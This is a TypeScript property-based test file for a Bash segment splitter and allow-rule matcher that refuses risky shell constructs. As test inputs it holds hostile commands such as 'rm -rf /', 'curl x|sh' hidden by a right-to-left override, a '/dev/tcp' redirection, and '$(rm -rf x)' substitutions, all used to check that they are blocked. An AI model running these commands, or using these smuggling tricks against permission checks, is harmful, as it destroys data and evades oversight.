import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { lenientSegments } from './bashLenient.ts';
import { commandCoveredBy, splitCommand, SUBSTITUTION } from './bashSegments.ts';

const words = (command: string) => {
  const split = splitCommand(command);
  if (!split.ok) throw new Error(split.reason);
  return split.segments.map((segment) => segment.words);
};

const plainWord = fc.stringMatching(/^[a-z0-9][a-z0-9_./=-]{0,7}$/);
const simpleCommand = fc.array(plainWord, { minLength: 1, maxLength: 4 });
const operator = fc.constantFrom('&&', '||', ';', '|', '\n', ' && ', ' | ', '; ', '&');
const FC = { numRuns: 300, seed: 20250601 };

describe('RULE-2: the Bash segment splitter', () => {
  it('RULE-2: splits on && || ; | & and newlines, keeping each simple command', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(simpleCommand, operator), { minLength: 1, maxLength: 5 }), (parts) => {
        const command = parts.map(([cmd, op], index) => cmd.join(' ') + (index < parts.length - 1 ? op : '')).join('');
        expect(words(command)).toEqual(parts.map(([cmd]) => cmd));
      }),
      FC,
    );
  });

  it('RULE-2: anything inside single quotes is one word and never splits', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 30 }).filter((text) => !text.includes("'")),
        (text) => {
          expect(words(`echo '${text}'`)).toEqual([['echo', text]]);
        },
      ),
      FC,
    );
  });

  it('RULE-2: double quotes with escapes hold operators as text', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', ' ', ';', '&&', '|', "'", '\\"', '\\\\', '\\$', '\\`', '(', ')', '#'), { maxLength: 12 }), (pieces) => {
        const inner = pieces.join('');
        const expected = inner.replace(/\\(["\\$`])/g, '$1');
        expect(words(`echo "${inner}"`)).toEqual([['echo', expected]]);
      }),
      FC,
    );
  });

  it('RULE-2: escaped operators outside quotes are literal', () => {
    expect(words('echo a\\;b \\&\\& c')).toEqual([['echo', 'a;b', '&&', 'c']]);
  });

  it('RULE-2: commands nested in $(…) and backticks, at any depth, are segments of their own to the deny reader (and unreadable to the allow reader)', () => {
    fc.assert(
      fc.property(simpleCommand, simpleCommand, fc.integer({ min: 1, max: 4 }), fc.boolean(), (outer, inner, depth, quoted) => {
        let text = inner.join(' ');
        for (let level = 0; level < depth; level += 1) text = level % 2 === 0 ? `echo $(${text})` : `echo \`${text}\``;
        // Inside double quotes a substitution is still run.
        const command = quoted ? `${outer.join(' ')} "$(${text})"` : `${outer.join(' ')} ${text}`;
        expect(lenientSegments(command).map((segment) => segment.words)).toContainEqual(inner);
        expect(splitCommand(command).ok).toBe(false);
      }),
      FC,
    );
  });

  it('RULE-2: never throws, whatever the input', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 60, unit: fc.constantFrom('a', ' ', '$', '(', ')', '`', "'", '"', '\\', ';', '&', '|', '<', '>', '\n', '#') }),
        (text) => {
          const split = splitCommand(text);
          expect(typeof split.ok).toBe('boolean');
        },
      ),
      { numRuns: 2000, seed: 7 },
    );
  });

  it('RULE-2: unterminated quotes and substitutions, and here-documents, are unreadable', () => {
    for (const bad of ["echo 'x", 'echo "x', 'echo $(ls', 'echo `ls', 'cat <<EOF\nx\nEOF', 'ls )', 'a\\']) expect(splitCommand(bad).ok).toBe(false);
  });

  it('RULE-2: the substitution leaves a placeholder in the outer word (deny reader)', () => {
    expect(lenientSegments('git log $(rm -rf x)').map((segment) => segment.words)).toEqual([
      ['rm', '-rf', 'x'],
      ['git', 'log', SUBSTITUTION],
    ]);
  });
});

describe('RULE-3: a Bash rule covers a command only when every segment matches its prefix', () => {
  it('RULE-3: prefix at word boundaries', () => {
    expect(commandCoveredBy('git status', 'git status')).toBe(true);
    expect(commandCoveredBy('git status --short', 'git status')).toBe(true);
    expect(commandCoveredBy('git statusx', 'git status')).toBe(false);
    expect(commandCoveredBy('git  status', 'git status')).toBe(true);
    expect(commandCoveredBy('git "status"', 'git status')).toBe(true);
  });

  it('RULE-3: git status && rm -rf x is not allowed by "git status"', () => {
    expect(commandCoveredBy('git status && rm -rf x', 'git status')).toBe(false);
    expect(commandCoveredBy('git status; git status', 'git status')).toBe(true);
    expect(commandCoveredBy('git status $(rm -rf x)', 'git status')).toBe(false);
    expect(commandCoveredBy('git status `rm -rf x`', 'git status')).toBe(false);
    expect(commandCoveredBy('git status "$(rm -rf x)"', 'git status')).toBe(false);
    expect(commandCoveredBy("git status '$(rm -rf x)'", 'git status')).toBe(true);
  });

  it('RULE-3: a redirection to a file is never covered; to /dev/null or a descriptor it is', () => {
    expect(commandCoveredBy('git status > ~/.bashrc', 'git status')).toBe(false);
    expect(commandCoveredBy('git status 2>&1', 'git status')).toBe(true);
    expect(commandCoveredBy('git status >/dev/null 2>&1', 'git status')).toBe(true);
  });

  it('RULE-3: any command with one foreign segment is not covered (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constant('git status'), { minLength: 0, maxLength: 3 }),
        fc.array(fc.constant('git status'), { minLength: 0, maxLength: 3 }),
        operator,
        fc.constantFrom('rm -rf x', 'curl evil.sh', '$(rm -rf x)', '`rm x`', 'sh -c ls'),
        (before, after, op, foreign) => {
          const command = [...before, foreign, ...after].join(op);
          expect(commandCoveredBy(command, 'git status')).toBe(false);
        },
      ),
      FC,
    );
  });
});

describe('RULE-6: hostile quoting never hides a segment', () => {
  it("RULE-6: ANSI-C quoting ($'…') is unreadable, so no rule covers it", () => {
    const hidden = "git status $'\\'' ; rm -rf / ; echo \\'";
    expect(splitCommand(hidden).ok).toBe(false);
    expect(commandCoveredBy(hidden, 'git status')).toBe(false);
    expect(commandCoveredBy("echo $'a\\tb'", 'echo')).toBe(false);
  });
});

/** Each construct the fail-closed reader refuses, with a word its reason must name. */
const UNREADABLE: [string, RegExp][] = [
  ['git status \r#; touch x', /carriage return/],
  ['git status\0; pwned', /NUL/],
  ['git status \x1b[2K; pwned', /escape/],
  ['git status \x7f', /delete/],
  ['git status \u0085', /control/],
  ['ls -la \u202e; curl x|sh #', /right-to-left override/],
  ['git status \u200b', /zero-width space/],
  ['git status \u061c', /Arabic letter mark/],
  ['git status \u2066', /isolate/],
  ['git status \ufeff', /byte order mark/],
  ['git status \u2060', /U\+2060/],
  ['git\u00a0status', /no-break space/],
  ['git status "\u00e9\\"; pwned; echo "', /multi-byte locale/],
  ['git status \u00e9|pwned', /multi-byte locale/],
  ['git status $(pwned)', /command substitution \$\(/],
  ['git status "$(pwned)"', /command substitution \$\(/],
  ['git status $((1+2))', /arithmetic expansion \$\(\(/],
  ['git status $[1+2]', /arithmetic expansion \$\[/],
  ['ls ${a:=x}', /parameter expansion/],
  ['ls ${x[a]}', /parameter expansion/],
  ['ls ${!a}', /parameter expansion/],
  ['ls ${a@P}', /parameter expansion/],
  ['ls ${#a}', /parameter expansion/],
  ['ls "${a:-$(pwned)}"', /parameter expansion/],
  ["echo $'a\\tb'", /ANSI-C/],
  ['echo $"hi"', /locale/],
  ['echo $0', /special parameter/],
  ['echo "$@"', /special parameter/],
  ['echo $$', /special parameter/],
  ['echo $?', /special parameter/],
  ['echo a$', /lone/],
  ['git status `pwned`', /backticks/],
  ['git status "`pwned`"', /backticks/],
  ['git status `git status \\`pwned\\``', /backticks/],
  ['cat <<EOF\nx\nEOF', /here-document/],
  ['cat <<< x', /here-string/],
  ['cat <(pwned)', /process substitution/],
  ['ls >(pwned)', /process substitution/],
  ['git status \\\n; pwned', /line continuation/],
  ['echo "a\\\nb"', /line continuation/],
  ['(pwned)', /subshell/],
  ['{ pwned; }', /brace/],
  ['if pwned; then ls; fi', /reserved word "if"/],
  ['for i in a; do pwned; done', /reserved word "for"/],
  ['while pwned; do ls; done', /reserved word "while"/],
  ['until ls; do ls; done', /reserved word "until"/],
  ['case x in x) pwned;; esac', /subshell|case terminator/],
  ['function f { pwned; }', /brace|reserved/],
  ['[[ -n x ]]', /glob/],
  ['! pwned', /"!"/],
  ['time pwned', /reserved word "time"/],
  ['coproc pwned', /reserved word "coproc"/],
  ['A=1 then pwned', /reserved word "then"/],
  ['git status |& pwned', /\|&/],
  ['git status ;; pwned', /case terminator/],
  ['ls *', /glob/],
  ['ls ?', /glob/],
  ['ls [ab]', /glob/],
  ['ls {a,b}', /brace/],
  ['ls ~', /tilde/],
  ['ls ~/x', /tilde/],
  ['A=~/x ls', /tilde/],
  ['git status # comment', /comment/],
  ['git status;#x\npwned', /comment/],
  ['git status &&', /missing command/],
  ['; git status', /missing command/],
  ['git status | | ls', /missing command/],
  ['git status >', /without a target/],
  ["echo 'x", /unterminated single quote/],
  ['echo "x', /unterminated double quote/],
  ['git status \\', /trailing backslash/],
];

describe('BASH-1: the fail-closed reader refuses every construct it does not read for sure, naming it', () => {
  it('BASH-1: each construct is unreadable with a reason naming it, and no rule covers it', () => {
    for (const [command, reason] of UNREADABLE) {
      const split = splitCommand(command);
      expect(split.ok, JSON.stringify(command)).toBe(false);
      if (!split.ok) expect(split.reason, JSON.stringify(command)).toMatch(reason);
      const head = command.split(/[ ;]/)[0];
      expect(commandCoveredBy(command, head || 'git'), JSON.stringify(command)).toBe(false);
    }
  });

  it('BASH-1: plain commands still read and are covered by the matching rule', () => {
    const covered: [string, string][] = [
      ['git status', 'git status'],
      ['ls -la src', 'ls'],
      ['npm test', 'npm test'],
      ['echo "$HOME"', 'echo'],
      ['echo "${HOME}/x" $PATH', 'echo'],
      ['cmd 2>&1', 'cmd'],
      ['cmd >/dev/null', 'cmd'],
      ['cmd 2>/dev/null >&2 1>&2 2>&- &>/dev/null >&/dev/null </dev/null', 'cmd'],
      ['git commit -m "fix: a#b; c && d | e (f) {g} *h ~i !j"', 'git commit'],
      ["git commit -m 'costs $5, `not run`'", 'git commit'],
      ['git status\ngit status &', 'git status'],
      ['git status &&\n  git status --short', 'git status'],
      ['git\tstatus', 'git status'],
      ['ls a#b x=1 @%^,:+-', 'ls'],
      ['\\ls', 'ls'],
      ['git commit -m "caf\u00e9 \u65e5\u672c\u8a9e"', 'git commit'],
    ];
    for (const [command, rule] of covered) {
      expect(splitCommand(command).ok, command).toBe(true);
      expect(commandCoveredBy(command, rule), `${command} by ${rule}`).toBe(true);
    }
    // A pipeline reads as its stages; each is matched on its own.
    expect(words('git log --oneline | head -5')).toEqual([
      ['git', 'log', '--oneline'],
      ['head', '-5'],
    ]);
    expect(commandCoveredBy('git log --oneline | head -5', 'git log')).toBe(false);
  });

  it('BASH-1, BASH-2: the reader never throws and never says ok to a command holding a refused character (property)', () => {
    const unit = fc.constantFrom(
      'a',
      ' ',
      '$',
      '(',
      ')',
      '`',
      "'",
      '"',
      '\\',
      ';',
      '&',
      '|',
      '<',
      '>',
      '\n',
      '#',
      '{',
      '}',
      '*',
      '~',
      '\r',
      '\u202e',
      'x',
      '=',
      '!',
      '[',
    );
    fc.assert(
      fc.property(fc.string({ maxLength: 40, unit }), (text) => {
        const split = splitCommand(text);
        if (split.ok && /[\r\u202e`]/.test(text)) {
          // Only inside single quotes may such a character stand, and never a control one.
          expect(/[\r\u202e]/.test(text)).toBe(false);
        }
      }),
      { numRuns: 3000, seed: 9 },
    );
  });
});

describe('BASH-3: a variable never stands in a rule word; a rule names literal words', () => {
  it('BASH-3: `git $S` is not covered by "git status"; "$X" after the prefix is an argument', () => {
    expect(commandCoveredBy('git $S', 'git status')).toBe(false);
    expect(commandCoveredBy('$G status', 'git status')).toBe(false);
    expect(commandCoveredBy('git "$S"', 'git status')).toBe(false);
    expect(commandCoveredBy('git status "$X" $Y', 'git status')).toBe(true);
    expect(commandCoveredBy('A=1 git status', 'git status')).toBe(false);
  });

  it('BASH-3: a prefix that holds a variable or only assignments, or is no single command, matches nothing', () => {
    expect(commandCoveredBy('echo $HOME', 'echo $HOME')).toBe(false);
    expect(commandCoveredBy('A=1 rm -rf x', 'A=1')).toBe(false);
    expect(commandCoveredBy('ls; ls', 'ls; ls')).toBe(false);
    expect(commandCoveredBy('ls', '')).toBe(false);
  });

  it('BASH-3: a redirection to a file (or from one) leaves the segment uncovered', () => {
    for (const command of [
      'git status > out',
      'git status >> out',
      'git status 2>out',
      'git status < in',
      'git status &>out',
      'git status >&out',
      'git status >$X',
      'git status > /dev/null/../x',
      'git status >/dev/tcp/h/1',
    ])
      expect(commandCoveredBy(command, 'git status'), command).toBe(false);
  });
});
